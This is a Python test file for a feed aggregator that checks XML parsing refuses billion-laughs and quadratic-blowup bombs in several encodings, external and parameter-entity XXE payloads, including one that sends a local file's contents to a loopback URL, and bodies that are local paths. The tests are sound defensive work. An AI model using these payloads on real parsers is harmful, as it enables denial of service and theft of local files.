"""2.1 and 2.2 end to end: XML bombs, external and parameter entities, quadratic blowup in
UTF-8/16/32 (and in encodings the entity screen does not decode), and bodies that are a
local path or a file URL. Nothing expands, no local file is read, every run stays small.
"""

from __future__ import annotations

import contextlib
import sqlite3
import time
import tracemalloc
import xml.sax
from pathlib import Path

import pytest

from aggregator.errors import ErrorClass, ParseError
from aggregator.fetch.screen import declares_entities
from aggregator.parse import parse_feed
from tests.e2e.helpers import write_config
from tests.hostile.helpers import (
    measured_run,
    output_files,
    store_dump,
    valid_articles,
)
from tests.httpserver import LoopbackServer

MARKER = "S3CRET-MARKER-7f1c2a"


def _secret(tmp_path: Path) -> Path:
    path = tmp_path / "secret.xml"
    # A valid feed of its own: if anything ever reads it, its title would become an article.
    path.write_text(
        '<?xml version="1.0"?><rss version="2.0"><channel><title>'
        f"{MARKER}</title><item><title>{MARKER} item</title>"
        f"<link>http://secret.invalid/{MARKER}</link>"
        f"<description>{MARKER}</description></item></channel></rss>",
        encoding="utf-8",
    )
    return path


def _doc(doctype: str, body: str, encoding: str = "utf-8") -> str:
    return (
        f'<?xml version="1.0" encoding="{encoding}"?>{doctype}<rss version="2.0"><channel>'
        f"<title>Bomb</title><link>http://bomb.invalid/</link><item><title>{body}</title>"
        f"<link>http://bomb.invalid/1</link><description>{body}</description></item>"
        "</channel></rss>"
    )


def billion_laughs() -> str:
    entities = '<!ENTITY lol0 "lol">' + "".join(
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)
    )
    return _doc(f"<!DOCTYPE rss [{entities}]>", "&lol9;")


def quadratic(encoding: str = "utf-8", size: int = 10_000, refs: int = 10_000) -> str:
    return _doc(f'<!DOCTYPE rss [<!ENTITY a "{"A" * size}">]>', "&a;" * refs, encoding)


def system_entity(secret: Path) -> str:
    return _doc(f'<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file://{secret}">]>', "&xxe;")


def parameter_entity(secret: Path) -> str:
    doctype = (
        f'<!DOCTYPE rss [<!ENTITY % file SYSTEM "file://{secret}">'
        "<!ENTITY % eval \"<!ENTITY &#x25; exfil SYSTEM 'http://127.0.0.1:9/?%file;'>\">"
        "%eval; %exfil;]>"
    )
    return _doc(doctype, "param")


def utf7(text: str) -> bytes:
    # UTF-7 writes "<" directly; the form that hides it from byte searches is "+ADw-".
    return text.encode("utf-7").replace(b"<!ENTITY", b"+ADw-!ENTITY")


def hostile_documents(secret: Path) -> dict[str, bytes]:
    return {
        "billion-laughs": billion_laughs().encode(),
        "quadratic-utf8": quadratic().encode(),
        "quadratic-utf16le-bom": b"\xff\xfe" + quadratic("utf-16").encode("utf-16-le"),
        "quadratic-utf16be-nobom": quadratic("utf-16").encode("utf-16-be"),
        "quadratic-utf32": quadratic("utf-32").encode("utf-32"),
        "quadratic-ebcdic": quadratic("cp037").encode("cp037"),
        "quadratic-utf7": utf7(quadratic("utf-7")),
        "system-entity": system_entity(secret).encode(),
        "parameter-entity": parameter_entity(secret).encode(),
        "path-body": str(secret).encode(),
        "file-url-body": f"file://{secret}".encode(),
        "relative-path-body": b"secret.xml",
    }


def test_no_xml_bomb_expands_and_no_local_file_is_read(
    server: LoopbackServer, tmp_path: Path
) -> None:
    secret = _secret(tmp_path)
    documents = hostile_documents(secret)
    for name, body in documents.items():
        server.feed(f"/{name}", body, content_type="application/xml")
    netscape = (
        b'<?xml version="1.0"?><!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN"'
        b' "http://my.netscape.com/publish/formats/rss-0.91.dtd"><rss version="0.91"><channel>'
        b"<title>Old</title><link>http://old.invalid/</link><description>d</description>"
        b"<language>en</language><item><title>Still parses</title>"
        b"<link>http://old.invalid/1</link></item></channel></rss>"
    )
    server.feed("/netscape", netscape)
    config = write_config(
        tmp_path, [{"name": n, "url": server.url(f"/{n}")} for n in [*documents, "netscape"]]
    )
    # The run's working directory holds the secret: a relative path body would find it.
    run = measured_run(config)

    assert run.returncode == 0, run.stderr
    assert run.seconds < 20, run.seconds
    assert run.peak_mib < 200, run.peak_mib
    files = valid_articles(tmp_path)
    everything = [*output_files(tmp_path).values(), run.stdout.encode(), run.stderr.encode()]
    dump = store_dump(tmp_path / "aggregator.db")
    assert MARKER not in dump
    assert all(MARKER.encode() not in data for data in everything)
    # No output holds an expansion: the biggest payload is 10^4 * 10^4 characters.
    assert all(len(data) < 20_000 for data in everything[:-2])
    assert "A" * 1000 not in dump and "lol" * 100 not in dump
    assert [m["title"] for m in files.values() if m["sourceUrl"].startswith("http://old")] == [
        "Still parses"
    ]

    con = sqlite3.connect(tmp_path / "aggregator.db")
    errors = dict(con.execute("SELECT name, last_error_class FROM feeds").fetchall())
    con.close()
    assert {n: errors[n] for n in ENTITY_DOCUMENTS} == dict.fromkeys(ENTITY_DOCUMENTS, "entities")
    for name in ("path-body", "file-url-body", "relative-path-body"):
        assert errors[name] == "parse", name
    assert errors["netscape"] is None


ENTITY_DOCUMENTS = [
    "billion-laughs",
    "quadratic-utf8",
    "quadratic-utf16le-bom",
    "quadratic-utf16be-nobom",
    "quadratic-utf32",
    "quadratic-ebcdic",
    "quadratic-utf7",
    "system-entity",
    "parameter-entity",
]


@pytest.mark.parametrize("name", ENTITY_DOCUMENTS)
def test_parse_stage_refuses_every_bomb_quickly(name: str, tmp_path: Path) -> None:
    """The parse stage screens what feedparser would read, whatever the encoding: even with
    the fetch screen bypassed, nothing reaches expat (whose amplification limit still lets a
    billion laughs cost about 1 s and 50 MB before it gives up)."""
    body = hostile_documents(_secret(tmp_path))[name]
    tracemalloc.start()
    started = time.perf_counter()
    try:
        with pytest.raises(ParseError) as refused:
            parse_feed(body, url="http://bomb.invalid/feed")
    finally:
        seconds = time.perf_counter() - started
        _, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
    assert refused.value.error_class is ErrorClass.ENTITIES
    assert seconds < 0.5, seconds
    assert peak < 50 * 1024 * 1024, peak


@pytest.mark.parametrize("name", ENTITY_DOCUMENTS[:5] + ENTITY_DOCUMENTS[-2:])
def test_fetch_screen_refuses_utf_8_16_32_quickly(name: str, tmp_path: Path) -> None:
    body = hostile_documents(_secret(tmp_path))[name]
    started = time.perf_counter()
    assert declares_entities(body)
    assert time.perf_counter() - started < 0.1


def test_a_local_path_given_as_body_is_a_parse_error_not_the_file(tmp_path: Path) -> None:
    secret = _secret(tmp_path)
    for body in (str(secret).encode(), f"file://{secret}".encode(), b"/dev/zero"):
        with pytest.raises(ParseError):
            parse_feed(body, url="http://evil.invalid/feed")


def test_strict_parser_is_expat() -> None:
    """A later python3-libxml2 install must not silently change the parser feedparser gets."""
    parser = xml.sax.make_parser(["drv_libxml2"])
    assert type(parser).__module__ == "xml.sax.expatreader"


def test_feedparser_only_ever_gets_a_bytesio(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Whatever the body (a path, a URL, a feed, garbage), feedparser gets an in-memory
    stream plus headers naming the feed as base URI, never a str or bytes it would open."""
    import io

    import feedparser

    seen: list[object] = []
    real_parse = feedparser.parse

    def spy(source: object, *args: object, **kwargs: object) -> object:
        seen.append(source)
        assert isinstance(source, io.BytesIO), type(source)
        headers = kwargs["response_headers"]
        assert isinstance(headers, dict)
        assert headers["content-location"] == "http://spy.invalid/feed"
        return real_parse(source, *args, **kwargs)

    monkeypatch.setattr(feedparser, "parse", spy)
    secret = _secret(tmp_path)
    bodies = [
        str(secret).encode(),
        f"file://{secret}".encode(),
        b"http://127.0.0.1:9/feed",
        (tmp_path / "secret.xml").read_bytes(),
        b"\x00\xff garbage",
    ]
    for body in bodies:
        with contextlib.suppress(ParseError):
            parse_feed(body, url="http://spy.invalid/feed")
    assert len(seen) == len(bodies)
